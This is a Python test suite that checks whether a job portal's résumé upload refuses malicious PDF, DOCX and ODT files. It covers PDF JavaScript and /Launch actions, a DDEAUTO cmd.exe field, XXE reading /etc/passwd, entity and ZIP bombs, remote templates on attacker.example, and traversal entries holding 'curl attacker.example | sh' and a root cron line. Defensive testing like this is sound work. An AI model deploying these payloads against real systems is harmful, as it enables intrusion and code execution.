"""Résumé uploads under attack: every malicious file is built here, sent
through the real form, and must be refused with the candidate's message in
their language and nothing stored; the virus scanner is a real clamd.

Families: PDF active content, encryption and damage; OOXML/ODF macros,
external links, ZIP bombs and unsafe names; legacy Word; the virus scanner
(infected, down with each policy, held résumés and ``flask resumes scan``).
"""

from __future__ import annotations

import io
import socket
import struct
import threading
import time
import warnings
import zipfile

import pytest
from bs4 import BeautifulSoup
from pypdf import PdfWriter
from sqlalchemy import func, select

from portal.domain import resumes
from portal.domain.antivirus import Clamd, ScannerUnavailable
from portal.domain.models import Application, AuditEvent, OutboxEmail, Resume, ScanStatus
from portal.plumbing.config import ConfigurationError
from portal.plumbing.db import db
from tests.conftest import PDF
from tests.security.conftest import EICAR, EICAR_SIGNATURE

FORM = {
    "en": "/en/jobs/head-of-product-management/apply",
    "fr": "/fr/emplois/chef-de-la-gestion-de-produits/postuler",
}
MAX_BYTES = 5 * 1024 * 1024

#: The start of each refusal's message, in English and (proposed) French.
MESSAGES = {
    "content": ("The file’s content does not match its type", "Le contenu du fichier ne correspond pas"),
    "unreadable": ("Your résumé could not be read", "Votre curriculum vitæ n’a pas pu être lu"),
    "encrypted": ("Your résumé is protected by a password", "Votre curriculum vitæ est protégé"),
    "active_content": (
        "Your résumé contains scripts or actions",
        "Votre curriculum vitæ contient des scripts",
    ),
    "attachment": (
        "Your résumé has files attached or embedded",
        "Votre curriculum vitæ contient des fichiers",
    ),
    "macros": ("Your résumé contains macros", "Votre curriculum vitæ contient des macros"),
    "external_link": ("Your résumé links to a template", "Votre curriculum vitæ renvoie à un modèle"),
    "too_complex": ("Your résumé is too large or complex", "Votre curriculum vitæ est trop volumineux"),
    "legacy_doc": ("Word 97–2003 documents (.doc) cannot be accepted", "Les documents Word 97–2003 (.doc)"),
    "infected": ("Our virus scan found a threat", "Notre antivirus a détecté une menace"),
    "scanner_unavailable": (
        "We cannot check files for viruses right now",
        "Nous ne pouvons pas vérifier les fichiers",
    ),
}


# Building files ------------------------------------------------------------------


def pdf(
    catalog: bytes = b"", page: bytes = b"", *more: bytes, header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
):
    """Write a one-page PDF by hand: ``catalog`` and ``page`` go into those
    dictionaries, ``more`` are objects 4, 5..., and the cross-reference table
    is exact, so every reader parses it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page + b" >>",
        *more,
    ]
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def written_by_pypdf(change) -> bytes:
    """A one-page PDF that pypdf writes after ``change(writer)``."""
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
DOCUMENT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE_RELS = RELS.format(
    f'<Relationship Id="rId1" Type="{RELATIONSHIP}officeDocument" Target="word/document.xml"/>'
)
WORD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body>{}</w:body></w:document>"
)
PARAGRAPH = "<w:p><w:r><w:t>Ada Tremblay</w:t></w:r></w:p>"


def docx_entries(*, main: str = DOCUMENT_MAIN, types: str = "", body: str = PARAGRAPH) -> list:
    """The three parts every DOCX has, as (name, content)."""
    return [
        ("[Content_Types].xml", CONTENT_TYPES.format(extra=types, main=main)),
        ("_rels/.rels", PACKAGE_RELS),
        ("word/document.xml", WORD.format(body)),
    ]


def docx(parts: dict | None = None, **options) -> bytes:
    """A Word package: the parts every DOCX has (``options`` change them), then ``parts``."""
    return zip_of([*docx_entries(**options), *(parts or {}).items()])


def zip_of(entries: list, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive with exactly these (name, bytes or text) entries, names
    as given, even unsafe or repeated ones."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": on purpose
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=compression)
    return buffer.getvalue()


ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
ODT_CONTENT = (
    f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF} office:version="1.3">'
    "{scripts}<office:body><office:text><text:p>Ada Tremblay "
    '<text:a xlink:href="https://example.org/portfolio">portfolio</text:a></text:p>'
    "</office:text></office:body></office:document-content>"
)
MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="'
    f'{ODT_MIMETYPE}"/><manifest:file-entry manifest:full-path="content.xml" '
    'manifest:media-type="text/xml">{encryption}</manifest:file-entry></manifest:manifest>'
)


def odt(parts: dict | None = None, *, scripts: str = "", mimetype: str = ODT_MIMETYPE, encryption: str = ""):
    """An OpenDocument text package (mimetype first and stored), then ``parts``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        package.writestr("content.xml", ODT_CONTENT.format(scripts=scripts), zipfile.ZIP_DEFLATED)
        package.writestr(
            "META-INF/manifest.xml", MANIFEST.format(encryption=encryption), zipfile.ZIP_DEFLATED
        )
        for name, content in (parts or {}).items():
            package.writestr(name, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def ole2_word_document() -> bytes:
    """The start of a Word 97–2003 file: an OLE2 compound file."""
    header = resumes.OLE2_MAGIC.ljust(512, b"\0")
    return (header + b"\xec\xa5\xc1\x00").ljust(1024, b"\0")


def forged_sizes(archive: bytes, name: str, size: int) -> bytes:
    """Rewrite the uncompressed size the ZIP's central directory declares for ``name``."""
    data = bytearray(archive)
    position = 0
    while True:
        position = data.find(b"PK\x01\x02", position)
        assert position >= 0, f"{name} is not in the central directory"
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if data[position + 46 : position + 46 + name_length] == name.encode():
            struct.pack_into("<I", data, position + 24, size)
            return bytes(data)
        position += 4


# Through the form ----------------------------------------------------------------


def submit(app, application_form, content: bytes, filename: str, lang: str = "en"):
    """Send the form with this résumé; return the response."""
    client = app.test_client()
    data = application_form(client, FORM[lang], resume=(io.BytesIO(content), filename))
    return client.post(FORM[lang], data=data)


def resume_error(response) -> str:
    """Return the message for the résumé, the page's only error (the form is shown again)."""
    assert response.status_code == 200, response.status_code
    soup = BeautifulSoup(response.get_data(as_text=True), "lxml")
    errors = {a["href"]: a.get_text(" ", strip=True) for a in soup.select(".error-summary a")}
    assert list(errors) == ["#resume"], errors
    beside = soup.find(id="resume-error")
    assert beside is not None, "the message is beside the field too"
    # The summary names the field: "Résumé: your résumé is protected by a password...".
    message = "".join(beside.find_all(string=True, recursive=False)).strip()
    assert errors["#resume"].endswith(message[1:]) and errors["#resume"] != message, errors
    return message


def stored(app) -> dict[str, int]:
    """Count what an application leaves behind."""
    with app.app_context():
        return {
            model.__tablename__: db.session.scalar(select(func.count()).select_from(model))
            for model in (Application, Resume, OutboxEmail)
        }


NOTHING = {"application": 0, "resume": 0, "outbox_email": 0}


def assert_refused(app, application_form, content: bytes, filename: str, reason: str, lang: str = "en"):
    message = resume_error(submit(app, application_form, content, filename, lang))
    expected = MESSAGES[reason][0 if lang == "en" else 1]
    assert message.startswith(expected), (reason, message)
    assert stored(app) == NOTHING


def assert_accepted(app, application_form, content: bytes, filename: str) -> Resume:
    response = submit(app, application_form, content, filename)
    assert response.status_code == 303, response.get_data(as_text=True)[-2000:]
    with app.app_context():
        resume = db.session.scalars(select(Resume)).one()
        assert resume.content == content
        db.session.expunge(resume)
        return resume


# PDF -------------------------------------------------------------------------------

JAVASCRIPT_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"

PDF_PROBES = {
    "EICAR attached as an embedded file": (
        written_by_pypdf(lambda writer: writer.add_attachment("eicar.com", EICAR)),
        "attachment",
    ),
    "/OpenAction /JavaScript": (pdf(b"/OpenAction 4 0 R", b"", JAVASCRIPT_ACTION), "active_content"),
    "/AA /Launch on the page": (
        pdf(b"", b"/AA << /O << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >> >>"),
        "active_content",
    ),
    "/Names /JavaScript": (
        pdf(b"/Names << /JavaScript 4 0 R >>", b"", b"<< /Names [(start) 5 0 R] >>", JAVASCRIPT_ACTION),
        "active_content",
    ),
    "JavaScript under escaped names": (
        pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "active_content",
    ),
    "a javascript: link annotation": (
        pdf(
            b"",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
            b"/A << /S /URI /URI (javascript:alert\\(1\\)) >> >>",
        ),
        "active_content",
    ),
    "an XFA form": (pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", b"<< >>"), "active_content"),
    "a file attachment annotation": (
        pdf(b"", b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"),
        "attachment",
    ),
    "encrypted (empty user password)": (
        written_by_pypdf(lambda writer: writer.encrypt(user_password="", owner_password="owner")),
        "encrypted",
    ),
    "truncated to 60 bytes": (PDF[:60], "unreadable"),
    "PDF header then HTML (polyglot)": (
        pdf(header=b"%PDF-1.7\n%<html><body><script>alert(document.domain)</script></body></html>\n"),
        "content",
    ),
    "HTML before the PDF header (polyglot)": (b"<html><script>alert(1)</script></html>\n" + pdf(), "content"),
    "a PDF of 201 pages": (
        written_by_pypdf(lambda writer: [writer.add_blank_page(612, 792) for _ in range(200)]),
        "too_complex",
    ),
}


@pytest.mark.parametrize("probe", list(PDF_PROBES))
def test_a_malicious_pdf_is_refused_and_nothing_is_stored(db_app, application_form, probe):
    content, reason = PDF_PROBES[probe]
    assert_refused(db_app, application_form, content, "cv.pdf", reason)


def test_the_hand_built_pdf_is_a_good_one(db_app, application_form):
    """The probes above differ from this accepted file only by what they add."""
    resume = assert_accepted(db_app, application_form, pdf(b"/Lang (en-CA)"), "cv.pdf")
    assert resume.media_type == "application/pdf"


def test_a_pdf_that_nests_without_end_is_judged_quickly():
    """pypdf, even lenient, never hangs: arrays nested 100,000 deep, and a
    page tree that contains itself, are judged within seconds."""
    deep = pdf(b"/Extra " + b"[" * 100_000 + b"]" * 100_000)
    looping = pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R 3 0 R]")
    for content in (deep, looping):
        started = time.monotonic()
        try:
            resumes.check_resume("cv.pdf", content, MAX_BYTES)
        except resumes.UploadRejected as rejected:
            assert rejected.reason in ("unreadable", "too_complex")
        assert time.monotonic() - started < resumes.PDF_MAX_SECONDS + 1


# DOCX ------------------------------------------------------------------------------

SETTINGS = (
    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<w:attachedTemplate r:id="rId1"/></w:settings>'
)
EXTERNAL_TEMPLATE = RELS.format(
    f'<Relationship Id="rId1" Type="{RELATIONSHIP}attachedTemplate" '
    'Target="https://attacker.example/template.dotm" TargetMode="External"/>'
)
DOCX_PROBES = {
    "macro package named .docx": (
        docx(
            {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"},
            main=MACRO_MAIN,
            types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "macros",
    ),
    "macro-enabled content type alone": (docx(main=MACRO_MAIN), "macros"),
    "vbaProject.bin alone": (docx({"word/vbaProject.bin": b"macros"}), "macros"),
    "an ActiveX control part": (docx({"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:x'/>"}), "macros"),
    "an external attachedTemplate relationship": (
        docx({"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}),
        "external_link",
    ),
    "an image linked from another server": (
        docx(
            {
                "word/_rels/document.xml.rels": RELS.format(
                    f'<Relationship Id="rId9" Type="{RELATIONSHIP}image" '
                    'Target="https://attacker.example/pixel.png" TargetMode="External"/>'
                )
            }
        ),
        "external_link",
    ),
    "an embedded OLE object": (docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "attachment"),
    "a DDEAUTO field": (
        docx(
            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText>'
            '</w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "active_content",
    ),
    "an INCLUDEPICTURE field fetching a file": (
        docx(
            body="<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"https://attacker.example/x.png\" \\d'/></w:p>"
        ),
        "external_link",
    ),
    "a DOCTYPE with an external entity": (
        zip_of(
            [
                (
                    "[Content_Types].xml",
                    b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&x;</Types>',
                ),
                *docx_entries()[1:],
            ]
        ),
        "unreadable",
    ),
    "a billion laughs": (
        zip_of(
            [
                (
                    "[Content_Types].xml",
                    b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
                    + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))
                    + b"]><t>&j;</t>",
                ),
                *docx_entries()[1:],
            ]
        ),
        "unreadable",
    ),
    "an entry named ../../": (
        docx({"../../home/staff/.bashrc": b"curl attacker.example | sh"}),
        "unreadable",
    ),
    "an absolute entry name": (docx({"/etc/cron.d/portal": b"* * * * * root sh"}), "unreadable"),
    "a backslash in an entry name": (docx({"word\\..\\..\\x.xml": b"<x/>"}), "unreadable"),
    "two entries with one name": (docx({"word/document.xml": b"<x/>"}), "unreadable"),
    "a Word 97–2003 file named .docx": (ole2_word_document(), "legacy_doc"),
    "a password-protected DOCX": (ole2_word_document() + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "a ZIP that is no Word document": (zip_of([("readme.txt", b"hello")]), "content"),
    "a damaged ZIP": (b"PK\x03\x04" + b"\0" * 200, "unreadable"),
}


@pytest.mark.parametrize("probe", list(DOCX_PROBES))
def test_a_malicious_docx_is_refused_and_nothing_is_stored(db_app, application_form, probe):
    content, reason = DOCX_PROBES[probe]
    assert_refused(db_app, application_form, content, "cv.docx", reason)


def test_a_legacy_word_document_is_refused_with_what_to_do(db_app, application_form):
    assert_refused(db_app, application_form, ole2_word_document(), "CV.DOC", "legacy_doc")


@pytest.fixture(scope="module")
def zip_bombs():
    """A DOCX holding 50 MB of zeros (about 50 KB compressed), and one whose
    directory declares a 1 GiB entry."""
    zeros = docx({"word/media/zeros.bin": bytes(50 * 1024 * 1024)})
    declared = forged_sizes(docx({"word/fontTable.xml": "<x/>"}), "word/fontTable.xml", 1 << 30)
    return {"50 MB of zeros": zeros, "a declared 1 GiB entry": declared}


@pytest.mark.parametrize("bomb", ["50 MB of zeros", "a declared 1 GiB entry"])
def test_a_zip_bomb_is_refused_quickly_without_decompressing(
    db_app, application_form, monkeypatch, zip_bombs, bomb
):
    content = zip_bombs[bomb]
    assert len(content) < 200_000
    started = time.monotonic()

    def never(*args, **kwargs):
        raise AssertionError("an entry was decompressed before the limits were checked")

    monkeypatch.setattr(zipfile.ZipFile, "open", never)
    assert_refused(db_app, application_form, content, "cv.docx", "too_complex")
    assert time.monotonic() - started < 2


def test_overlapping_zip_entries_are_refused():
    """Entries sharing their compressed data (how some ZIP bombs multiply
    their size) are refused from the directory alone."""
    archive = bytearray(zip_of(docx_entries()))
    # Point the second entry's central-directory record at the first entry's local header.
    second = archive.find(b"PK\x01\x02", archive.find(b"PK\x01\x02") + 4)
    struct.pack_into("<I", archive, second + 42, 0)
    with pytest.raises(resumes.UploadRejected) as rejected:
        resumes.check_resume("cv.docx", bytes(archive), MAX_BYTES)
    assert rejected.value.reason == "unreadable"


# ODT ----------------------------------------------------------------------------

ODT_PROBES = {
    "a Basic macro library": (odt({"Basic/Standard/Module1.xml": "<script:module/>"}), "macros"),
    "a Python script": (odt({"Scripts/python/run.py": "import os"}), "macros"),
    "a macro run when the document opens": (
        odt(
            scripts="<office:scripts><office:event-listeners>"
            '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
            "</office:event-listeners></office:scripts>"
        ),
        "macros",
    ),
    "a template on another server": (
        odt(
            {
                "meta.xml": f"<office:document-meta {ODF}><office:meta><meta:template "
                'xlink:href="https://attacker.example/template.ott" xlink:type="simple"/></office:meta>'
                "</office:document-meta>"
            }
        ),
        "external_link",
    ),
    "encrypted": (
        odt(encryption='<manifest:encryption-data manifest:checksum-type="SHA1" manifest:checksum="x"/>'),
        "encrypted",
    ),
    "another type's mimetype": (odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"), "content"),
}


@pytest.mark.parametrize("probe", list(ODT_PROBES))
def test_a_malicious_odt_is_refused_and_nothing_is_stored(db_app, application_form, probe):
    content, reason = ODT_PROBES[probe]
    assert_refused(db_app, application_form, content, "cv.odt", reason)


# Good files still pass --------------------------------------------------------------

GOOD = {
    "PDF": (PDF, "cv.pdf"),
    "PDF with a web link": (
        pdf(
            b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>]"
        ),
        "cv.pdf",
    ),
    "DOCX with a hyperlink": (
        docx(
            {
                "word/_rels/document.xml.rels": RELS.format(
                    f'<Relationship Id="rId9" Type="{RELATIONSHIP}hyperlink" '
                    'Target="https://example.org/portfolio" TargetMode="External"/>'
                )
            }
        ),
        "cv.docx",
    ),
    "DOCX with a page-number field": (
        docx(body='<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/></w:p>'),
        "cv.docx",
    ),
    "ODT": (odt(), "cv.odt"),
    "TXT": ("Ada Tremblay — développeuse\n".encode(), "cv.txt"),
}


@pytest.mark.parametrize("kind", list(GOOD))
def test_a_good_resume_is_still_accepted(db_app, application_form, kind):
    content, filename = GOOD[kind]
    resume = assert_accepted(db_app, application_form, content, filename)
    assert resume.scan_status is ScanStatus.CLEAN


# French messages --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "filename", "reason"),
    [
        (PDF_PROBES["/OpenAction /JavaScript"][0], "cv.pdf", "active_content"),
        (PDF_PROBES["encrypted (empty user password)"][0], "cv.pdf", "encrypted"),
        (DOCX_PROBES["macro package named .docx"][0], "cv.docx", "macros"),
        (ole2_word_document(), "cv.doc", "legacy_doc"),
    ],
    ids=["javascript", "encrypted", "macros", "legacy-doc"],
)
def test_refusals_are_explained_in_french(db_app, application_form, content, filename, reason):
    assert_refused(db_app, application_form, content, filename, reason, lang="fr")


# The virus scanner ------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_the_eicar_file_as_text_is_refused_when_the_scanner_runs(db_app, application_form, clamd, lang):
    db_app.config["PORTAL_CLAMAV_SOCKET"] = str(clamd.socket)
    assert_refused(db_app, application_form, EICAR, "cv.txt", "infected", lang)


def test_the_scanner_would_catch_the_eicar_attachment_too(clamd):
    """The PDF rule refuses it first; clamd finds the file inside as well."""
    content = PDF_PROBES["EICAR attached as an embedded file"][0]
    verdict = clamd.scanner.scan(content)
    assert verdict.signature.startswith(EICAR_SIGNATURE)


@pytest.mark.parametrize("kind", ["PDF", "DOCX with a hyperlink", "ODT", "TXT"])
def test_a_clean_file_passes_the_scanner(db_app, application_form, clamd, kind):
    db_app.config["PORTAL_CLAMAV_SOCKET"] = str(clamd.socket)
    content, filename = GOOD[kind]
    assert assert_accepted(db_app, application_form, content, filename).scan_status is ScanStatus.CLEAN


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_scanner_down_with_the_refuse_policy_stores_nothing(db_app, application_form, tmp_path, lang):
    db_app.config["PORTAL_CLAMAV_SOCKET"] = str(tmp_path / "no-clamd.sock")
    assert db_app.config["PORTAL_CLAMAV_UNAVAILABLE"] == "refuse", "refuse is the default"
    started = time.monotonic()
    assert_refused(db_app, application_form, PDF, "cv.pdf", "scanner_unavailable", lang)
    assert time.monotonic() - started < 5


def application_page(staff, application_id: int) -> BeautifulSoup:
    response = staff.client(staff.admin).get(f"/en/staff/applications/{application_id}/")
    assert response.status_code == 200
    return BeautifulSoup(response.get_data(as_text=True), "lxml")


def resume_url(application_id: int) -> str:
    return f"/en/staff/applications/{application_id}/resume"


def audited(app, action: str) -> list[AuditEvent]:
    with app.app_context():
        return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == action)))


def held_application(db_app, application_form, tmp_path, content: bytes, filename: str) -> int:
    """Apply while the scanner is down under the hold policy; return the application's id."""
    db_app.config["PORTAL_CLAMAV_SOCKET"] = str(tmp_path / "no-clamd.sock")
    db_app.config["PORTAL_CLAMAV_UNAVAILABLE"] = "hold"
    assert submit(db_app, application_form, content, filename).status_code == 303
    with db_app.app_context():
        resume = db.session.scalars(select(Resume)).one()
        assert resume.scan_status is ScanStatus.UNSCANNED
        return resume.application_id


def test_scanner_down_with_the_hold_policy_holds_the_resume_until_scanned(
    db_app, application_form, staff, clamd, tmp_path
):
    application_id = held_application(db_app, application_form, tmp_path, PDF, "cv.pdf")
    record = application_page(staff, application_id).select_one("dl.record")
    assert "not scanned yet: download held" in record.get_text(" ", strip=True)
    assert record.select_one("a[href$='/resume']") is None, "no download link while held"

    refused = staff.client(staff.admin).get(resume_url(application_id))
    assert refused.status_code == 409
    assert refused.mimetype == "text/html" and PDF not in refused.data
    assert "has not been scanned for viruses yet" in refused.get_data(as_text=True)
    assert audited(db_app, "download_resume") == []

    # Still down: the command says so and keeps it held.
    result = db_app.test_cli_runner().invoke(args=["resumes", "scan"])
    assert result.exit_code == 1
    assert "0 clean, 0 infected (deleted), 1 still held" in result.output

    db_app.config["PORTAL_CLAMAV_SOCKET"] = str(clamd.socket)
    result = db_app.test_cli_runner().invoke(args=["resumes", "scan"])
    assert result.exit_code == 0, result.output
    assert "1 clean, 0 infected (deleted), 0 still held" in result.output

    download = staff.client(staff.admin).get(resume_url(application_id))
    assert download.status_code == 200 and download.data == PDF
    assert len(audited(db_app, "download_resume")) == 1


def test_a_held_resume_the_scanner_flags_is_deleted_and_audited(
    db_app, application_form, staff, clamd, tmp_path
):
    application_id = held_application(db_app, application_form, tmp_path, EICAR, "cv.txt")
    db_app.config["PORTAL_CLAMAV_SOCKET"] = str(clamd.socket)
    result = db_app.test_cli_runner().invoke(args=["resumes", "scan"])
    assert result.exit_code == 0, result.output
    assert "0 clean, 1 infected (deleted), 0 still held" in result.output
    with db_app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Resume)) == 0
        assert db.session.get(Application, application_id) is not None, "the application itself stays"
    (event,) = audited(db_app, "delete_infected_resume")
    assert (event.application_id, event.actor) == (application_id, "flask resumes scan")
    assert EICAR_SIGNATURE in event.detail
    record = application_page(staff, application_id).select_one("dl.record").get_text(" ", strip=True)
    assert "Deleted: the virus scanner flagged it" in record
    assert staff.client(staff.admin).get(resume_url(application_id)).status_code == 404


def test_resumes_scan_needs_a_scanner(db_app):
    result = db_app.test_cli_runner().invoke(args=["resumes", "scan"])
    assert result.exit_code == 1
    assert "PORTAL_CLAMAV_SOCKET is not set" in result.output


def test_a_scanner_that_never_answers_is_given_up_on_in_time(tmp_path):
    """A clamd that accepts the file but never answers does not hold a worker."""
    path = tmp_path / "silent.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen()
    accepted = []

    def accept():
        connection, _address = server.accept()
        accepted.append(connection)

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        started = time.monotonic()
        with pytest.raises(ScannerUnavailable):
            Clamd(str(path), scan_timeout=0.5).scan(b"hello")
        assert time.monotonic() - started < 2
    finally:
        thread.join(timeout=2)
        for connection in accepted:
            connection.close()
        server.close()


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        ({"PORTAL_CLAMAV_UNAVAILABLE": "accept"}, "PORTAL_CLAMAV_UNAVAILABLE must be refuse"),
        ({"PORTAL_CLAMAV_SOCKET": "tcp://clamav"}, "PORTAL_CLAMAV_SOCKET"),
        ({"PORTAL_CLAMAV_SOCKET": "http://clamav:3310"}, "PORTAL_CLAMAV_SOCKET"),
    ],
)
def test_scanner_settings_that_cannot_work_stop_the_start(make_app, settings, message):
    with pytest.raises(ConfigurationError, match=message):
        make_app(**settings)
